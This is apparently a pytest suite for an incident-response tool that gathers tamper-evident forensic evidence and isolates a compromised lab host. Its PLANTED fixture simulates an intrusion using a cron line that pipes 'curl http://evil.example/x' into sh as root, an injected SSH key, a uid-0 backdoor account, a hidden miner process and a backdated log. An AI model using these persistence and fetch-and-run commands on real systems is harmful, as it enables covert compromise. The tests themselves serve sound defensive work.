"""Evidence of an incident: what an intruder leaves is in the set, the set proves itself, and the host is as it was."""

from __future__ import annotations

import json
import os
import subprocess
import tarfile
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from opsplay.actions._evidence_set import EvidenceSet
from opsplay.lab import HostSpec, Lab, LabHost
from tests.lab.driver import ROOT, Driver, Outcome, agents, leftovers
from tests.lab.quick_lab import QuickLab

pytestmark = pytest.mark.lab

EVIDENCE, ISOLATE = ROOT / "playbooks/incident_evidence.yml", ROOT / "playbooks/incident_isolate.yml"
KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIKplantedplantedplantedplantedplantedplanted evil"
# A program whose file is gone, which holds a file that is gone and listens; a job, a key, an account, a log.
PLANTED = f"""
cp /usr/bin/python3 /tmp/.miner
cat > /tmp/.m.py <<'E'
import os, socket, time
f = open("/tmp/.loot", "w"); f.write("loot"); f.flush(); os.unlink("/tmp/.loot"); os.unlink("/tmp/.miner")
s = socket.create_server(("", 31337))
time.sleep(3600)
E
systemd-run -q --unit=planted --setenv=WALLET=abc123 /tmp/.miner /tmp/.m.py --pool evil.example
echo '*/5 * * * * root curl -s http://evil.example/x | sh' > /etc/cron.d/planted
mkdir -p /home/plain/.ssh; echo '{KEY}' >> /home/plain/.ssh/authorized_keys; chown -R plain:plain /home/plain/.ssh
useradd -o -u 0 toor
echo 'old line' > /var/log/app.log; chown ops:adm /var/log/app.log; chmod 640 /var/log/app.log
touch -d '2020-02-03 04:05:06.789' /var/log/app.log
for i in 1 2 3 4 5 6 7 8 9 10; do ss -Hltn | grep -q 31337 && break; sleep 0.2; done; test ! -e /tmp/.miner
"""


@pytest.fixture(scope="module")
def scene() -> Iterator[Lab]:
    """A host that somebody broke into, and a peer."""
    if os.geteuid() != 0:
        pytest.skip("lab hosts need root")
    with QuickLab("scene") as fleet:
        hosts = fleet.up({"victim": HostSpec(release="bookworm", image="full"), "peer": HostSpec(release="bookworm")})
        hosts["victim"].run(PLANTED)
        yield fleet


@pytest.fixture
def driver(scene: Lab, tmp_path: Path) -> Driver:
    return Driver(tmp_path, scene)


def run(driver: Driver, playbook: Path, **variables: Any) -> Outcome:
    values = {"incident_hosts": "victim", "incident_reason": "case 12", "incident_folder": str(driver.directory / "ev")}
    return driver.run(playbook, "-e", json.dumps({**values, **variables}))


def sets(driver: Driver) -> list[Path]:
    return sorted((driver.directory / "ev/victim").glob("[0-9]*"))


def verifies(folder: Path) -> bool:
    return (
        subprocess.run(["sha256sum", "--check", "--strict", "--quiet", "manifest.sha256"], cwd=folder).returncode == 0
    )


def index(folder: Path) -> dict[str, Any]:
    return json.loads((folder / "index.json").read_text())


def rows(path: Path) -> list[dict[str, Any]]:
    return [json.loads(line) for line in path.read_text().splitlines()]


def test_what_was_planted_is_in_the_set(driver: Driver, scene: Lab) -> None:
    victim = scene.hosts["victim"]
    audit = "CREATE TABLE IF NOT EXISTS audit AS SELECT 'mallory' AS who, 'gave himself rights' AS what"
    victim.run(["runuser", "-u", "postgres", "--", "psql", "-qXc", audit + "; CREATE ROLE planted SUPERUSER"])
    victim.run("touch /run/mark; sleep 0.01")
    queries = [{"name": "audit", "sql": "SELECT * FROM audit"}, {"name": "writes", "sql": "DROP TABLE audit"}]
    wanted = {"incident_environments": ["evil.example"], "incident_paths": ["/srv"], "incident_queries": queries}
    outcome = run(driver, EVIDENCE, **wanted)
    assert outcome.code == 0, outcome.out
    (folder,) = sets(driver)
    assert folder.name.startswith("001-") and verifies(folder)
    (process,) = [one for one in rows(folder / "volatile/processes.jsonl") if one["program"].startswith("/tmp/.miner")]
    assert process["command"][-1] == "evil.example" and process["program"].endswith(" (deleted)")
    assert process["sha256"] == victim.run("sha256sum $(readlink -f /usr/bin/python3)").stdout.split()[0]
    assert "/tmp/.miner /tmp/.m.py --pool evil.example" in (folder / "volatile/processes.txt").read_text()
    assert ":31337" in (folder / "volatile/sockets.txt").read_text()
    assert {"fd": 3, "pid": process["pid"], "target": "/tmp/.loot (deleted)"} in rows(
        folder / "volatile/deleted-but-open.jsonl"
    )
    (environment,) = rows(folder / "volatile/environments.jsonl")
    assert "WALLET=abc123" in environment["environment"]
    assert (folder / "databases/audit.csv").read_text() == "who,what\nmallory,gave himself rights\n"
    assert "planted,t," in (folder / "databases/5432-roles.csv").read_text()
    assert "peer" in (folder / "databases/5432-access-rules.csv").read_text()
    (refused,) = [one for one in index(folder)["items"] if one["file"] == "databases/writes.csv"]
    assert "read-only transaction" in refused["stderr"], "a question changes nothing"
    assert "toor:x:0:" in (folder / "accounts/users.txt").read_text()
    assert "/etc/cron.d/planted" in (folder / "changes/changed-files.tsv").read_text()
    assert "planted.service" in (folder / "clockwork/units.txt").read_text()
    with tarfile.open(folder / "accounts/accounts.tar.gz") as tar:
        found = tar.extractfile("home/plain/.ssh/authorized_keys")
        assert found is not None and KEY in found.read().decode()
    with tarfile.open(folder / "clockwork/clockwork.tar.gz") as tar:
        job = tar.extractfile("etc/cron.d/planted")
        assert job is not None and b"evil.example/x" in job.read()
    nothing_is_left(victim)


def nothing_is_left(host: LabHost) -> None:
    """No file came or changed, but for what a login leaves in logs and fail2ban reads there, and a checkpoint."""
    changing = ("/var/log", "/var/lib/fail2ban", "/var/lib/postgresql", "/proc")
    others = " ".join(f"-not -path '{path}/*'" for path in changing)
    new = host.run(f"find / -xdev -newer /run/mark -type f {others}").stdout
    assert new == "" and leftovers(host) == [] and agents(host) == []


def test_times_and_owners_are_kept_also_of_reading(driver: Driver, scene: Lab) -> None:
    victim = scene.hosts["victim"]
    victim.run("touch -a -d '2019-01-01' /var/log/app.log")
    assert run(driver, EVIDENCE, incident_parts=["logs"]).code == 0
    (folder,) = sets(driver)
    with tarfile.open(folder / "logs/logs.tar.gz") as tar:
        log = tar.getmember("var/log/app.log")
        assert (log.uname, log.gname, log.mode) == ("ops", "adm", 0o640)
        assert f"{log.mtime:.3f}" == victim.run("stat -c %.3Y /var/log/app.log").stdout.strip()
    assert victim.run("stat -c %x /var/log/app.log").stdout.startswith("2019-01-01")


def test_what_is_lost_first_comes_first(driver: Driver) -> None:
    assert run(driver, EVIDENCE).code == 0
    (folder,) = sets(driver)
    told = index(folder)
    parts = list(dict.fromkeys(item["part"] for item in told["items"]))
    parts_there = ["databases", "logins", "accounts", "clockwork", "system", "packages", "changes", "logs"]
    assert parts == ["volatile", *parts_there]
    assert told["items"][0]["file"] == "volatile/processes.jsonl"
    began = [item["started"] for item in told["items"]]
    assert began == sorted(began) and told["began"] <= told["ended"] and told["complete"]
    assert told["reason"] == "case 12" and told["collector"]["user"] and told["user_on_host"] == 0
    assert abs(told["clock"]["host_is_ahead_seconds"]) <= told["clock"]["uncertain_by_seconds"] + 0.01
    ran = next(item for item in told["items"] if item["file"] == "volatile/sockets.txt")
    assert ran["argv"][0] == "ss" and ran["program"].endswith("/ss") and len(ran["program_sha256"]) == 64
    # In a container the kernel's messages are not for the host: told, and no reason to give up.
    assert [item["file"] for item in told["items"] if item.get("problem")] == ["volatile/kernel-messages.txt"]


def test_a_changed_byte_is_found_and_a_second_set_has_its_own_number(driver: Driver) -> None:
    for _ in range(2):
        assert run(driver, EVIDENCE, incident_parts=["accounts"]).code == 0
    first, second = sets(driver)
    assert (first.name[:4], second.name[:4]) == ("001-", "002-") and verifies(first) and verifies(second)
    assert first.stat().st_mode & 0o777 == 0o700 and first.parent.stat().st_mode & 0o777 == 0o700
    victim = second / "accounts/users.txt"
    assert victim.stat().st_mode & 0o777 == 0o400
    victim.chmod(0o600)
    content = bytearray(victim.read_bytes())
    content[10] ^= 1
    victim.write_bytes(content)
    assert not verifies(second) and verifies(first)
    log = (driver.directory / "ev/collections.log").read_text().splitlines()
    digest = subprocess.run(["sha256sum", first / "manifest.sha256"], capture_output=True, text=True).stdout.split()[0]
    assert len(log) == 2 and f"victim {first} sha256 {digest} case 12" in log[0]


def test_two_at_once_have_two_numbers(tmp_path: Path) -> None:
    made: list[str] = []
    threads = [
        threading.Thread(target=lambda: made.append(EvidenceSet.begin(tmp_path, "h").folder.name[:3]))
        for _ in range(12)
    ]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert sorted(made) == [f"{number:03d}" for number in range(1, 13)]
    assert not list((tmp_path / "h").glob(".*"))


def test_a_preview_makes_nothing(driver: Driver) -> None:
    outcome = driver.run("- hosts: victim\n  tasks: [{name: e, evidence: {dest: ev}}]\n", "--check")
    assert outcome.code == 0 and not (driver.directory / "ev").exists()
    assert "volatile/sockets.txt" in outcome.results("victim")["e"]["data"]["items"]


def test_an_archive_that_is_too_large_names_what_it_leaves_out(driver: Driver, scene: Lab) -> None:
    scene.hosts["victim"].run("mkdir -p /srv/big; head -c 3000000 /dev/urandom > /srv/big/b; echo s > /srv/big/small")
    task = "{name: e, evidence: {dest: ev, parts: [paths], paths: [/srv/big, /no/such], max_mib: 1}}"
    assert driver.run(f"- hosts: victim\n  gather_facts: false\n  tasks: [{task}]\n").code == 0
    (folder,) = sets(driver)
    (item,) = index(folder)["items"]
    assert item["left_out"] == [["/srv/big/b", "the archive would be larger than 1 MiB"]] and item["files"] == 2
    with tarfile.open(folder / "paths/paths.tar.gz") as tar:
        assert tar.getnames() == ["srv/big", "srv/big/small"]


def reaches(host: LabHost, address: str) -> bool:
    script = f"import socket; socket.create_connection(('{address}', 22), 2)"
    return host.run(["python3", "-c", script], check=False, timeout=10).returncode == 0


def test_isolated_only_with_evidence_and_collected_from_all_the_same(driver: Driver, scene: Lab) -> None:
    victim, peer = scene.hosts["victim"], scene.hosts["peer"]
    before = victim.run("nft --stateless list ruleset").stdout
    refused = run(driver, ISOLATE)
    assert refused.code == 2 and "no evidence of victim was collected in the last 24 hours" in refused.out
    assert reaches(peer, victim.address), "refused before anything was changed"
    assert run(driver, EVIDENCE, incident_parts=["volatile"]).code == 0
    outcome = run(driver, ISOLATE)
    assert outcome.code == 0, outcome.out
    try:
        assert not reaches(peer, victim.address) and not reaches(victim, peer.address)
        assert run(driver, ISOLATE).changed() == set()
        assert run(driver, EVIDENCE).code == 0, "an isolated host gives evidence"
        assert verifies(sets(driver)[-1]) and len(sets(driver)) == 2
        assert "opsplay_isolate" in (sets(driver)[-1] / "volatile/firewall-nft.txt").read_text()
    finally:
        undone = run(driver, ISOLATE, incident_undo=True)
    assert undone.code == 0 and reaches(peer, victim.address)
    assert victim.run("nft --stateless list ruleset").stdout == before


def test_isolated_as_told(driver: Driver, scene: Lab) -> None:
    """Evidence in the same run, or none."""
    peer, victim = scene.hosts["peer"], scene.hosts["victim"]
    for said, count in (("none", 0), ("now", 1)):
        assert run(driver, ISOLATE, incident_evidence=said).code == 0
        try:
            assert not reaches(peer, victim.address) and len(sets(driver)) == count
        finally:
            assert run(driver, ISOLATE, incident_undo=True).code == 0
    assert run(driver, ISOLATE, incident_evidence="perhaps").code == 2
    assert run(driver, ISOLATE, incident_reason="").code == 2


def test_one_address_is_blocked_and_let_in_again(driver: Driver, scene: Lab) -> None:
    peer, victim = scene.hosts["peer"], scene.hosts["victim"]
    assert run(driver, ISOLATE, incident_block=[peer.address], incident_block_expires="1h").code == 0
    try:
        assert not reaches(peer, victim.address) and reaches(victim, "127.0.0.1")
        assert "opsplay_isolate" not in victim.run("nft list tables").stdout
    finally:
        assert run(driver, ISOLATE, incident_block=[peer.address], incident_undo=True).code == 0
    assert reaches(peer, victim.address)
